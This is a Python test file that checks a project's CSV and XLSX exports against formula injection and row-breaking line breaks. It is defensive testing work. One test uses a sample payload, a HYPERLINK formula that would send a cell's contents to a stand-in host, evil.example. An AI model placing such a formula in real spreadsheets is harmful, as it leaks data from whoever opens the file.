"""Hostile text in CSV and XLSX exports (issue #9 §7): a cell holding a carriage return or any other
line break cannot break its row, and an XLSX text cell starting with ``=``, ``+``, ``-`` or ``@``
is stored as text, never as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from functools import cache

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from saylau.analytics.figures import Names, from_seed
from saylau.analytics.render import render_csv, render_xlsx, text_cells
from saylau.analytics.report import Report, build_report
from saylau.domain.cells import LINE_BREAKS, CsvWriter, csv_line
from saylau.web.pages.public.site import csv_bytes
from tests.fuzz.hostile import bounded, count

BREAKS = tuple(LINE_BREAKS)
text = st.text(st.characters(exclude_categories=("Cs",)), max_size=20)
"""Any text a database holds (no lone surrogate)."""
breaking = st.builds(
    lambda a, b, c: a + b + c, text, st.sampled_from([*BREAKS, "\r\n", '"', ","]), text
)
cells = st.one_of(text, breaking, st.integers(), st.none())
rows = st.lists(st.lists(cells, min_size=1, max_size=4), max_size=5)


def physical_rows(written: str) -> int:
    """How many rows a reader sees that ends a row at *any* line break outside quotes (written
    independently of the writer: a quote toggles, a doubled quote toggles twice)."""
    quoted, ends, previous = False, 0, ""
    for char in written:
        if char == '"':
            quoted = not quoted
        elif not quoted and char in BREAKS and not (previous == "\r" and char == "\n"):
            ends += 1
        previous = char
    assert not quoted, written
    return ends


def shown(value: object) -> str:
    return "" if value is None else str(value)


@bounded(300)
@given(rows=rows)
def test_a_line_break_never_breaks_a_csv_row(rows: list[list[object]]) -> None:
    count("export: CSV cells (line breaks)")
    out = io.StringIO()
    writer = CsvWriter(out)
    for row in rows:
        writer.writerow(row)
    written = out.getvalue()
    assert physical_rows(written) == len(rows)
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read == [[shown(v) for v in row] for row in rows]


@bounded(200)
@given(rows=st.lists(st.lists(breaking, min_size=2, max_size=2), min_size=1, max_size=5))
def test_public_csv_twins_keep_their_rows(rows: list[list[object]]) -> None:
    count("export: CSV cells (line breaks)")
    written = csv_bytes(["name", "votes"], rows).decode("utf-8")
    assert physical_rows(written) == len(rows) + 1


def test_python_csv_alone_would_break_the_row() -> None:
    """Why :class:`CsvWriter` exists: ``csv.writer`` leaves a lone carriage return unquoted."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(["a\rb", "c"])
    assert physical_rows(out.getvalue()) == 2
    assert csv_line(["a\rb", "c"]) == '"a\rb",c\n'
    assert csv_line(["x\u2028y", 'say "hi"', None, 3]) == '"x\u2028y","say ""hi""",,3\n'
    assert csv_line([""]) == '""\n'


starts = st.sampled_from(["=", "+", "-", "@"])
formula_like = st.builds(lambda a, b: a + b, starts, text)


@bounded(150)
@given(
    values=st.lists(
        st.one_of(formula_like, text, st.integers(-(2**53), 2**53)), min_size=1, max_size=6
    )
)
def test_an_xlsx_text_cell_is_never_a_formula(values: list[object]) -> None:
    count("export: XLSX cells (formula injection)")
    values = [v for v in values if not (isinstance(v, str) and _illegal(v))]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(values)
    text_cells(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    assert b"<f>" not in _sheet_xml(buffer.getvalue())
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    for value, cell in zip(values, read[1], strict=False):
        # XLSX holds numbers as doubles (hence integers within 2^53) and XML reads CR as LF.
        assert cell.value == (
            value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value
        )
        if isinstance(value, str):
            assert cell.data_type == "s"
            assert cell.quotePrefix is value.startswith(("=", "+", "-", "@"))


def _illegal(value: str) -> bool:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return bool(ILLEGAL_CHARACTERS_RE.search(value)) or value == ""  # openpyxl refuses / drops


def _sheet_xml(workbook: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")
        )


@cache
def _seed() -> Report:
    return build_report(from_seed())


def hostile_report(label: str) -> Report:
    """The seed report with the first row of its first table named ``label`` in every language."""
    report = _seed()
    first = report.sections[0]
    table = first.tables[0]
    row = dataclasses.replace(table.rows[0], label=Names(label, label, label))
    table = dataclasses.replace(table, rows=(row, *table.rows[1:]))
    section = dataclasses.replace(first, tables=(table, *first.tables[1:]))
    return dataclasses.replace(report, sections=(section, *report.sections[1:]))


def test_a_hostile_name_in_the_report_stays_text() -> None:
    label = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    report = hostile_report(label)
    table = report.sections[0].tables[0]
    workbook = render_xlsx(report, "en")
    assert b"<f>" not in _sheet_xml(workbook)
    sheet = load_workbook(io.BytesIO(workbook))[table.id[:31]]
    cell = sheet.cell(row=3, column=1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (label, "s", True)
    archive = zipfile.ZipFile(io.BytesIO(render_csv(hostile_report("Name\rbroken"), "en")))
    written = archive.read(f"{table.id}.csv").decode("utf-8")
    assert physical_rows(written) == len(table.rows) + 1
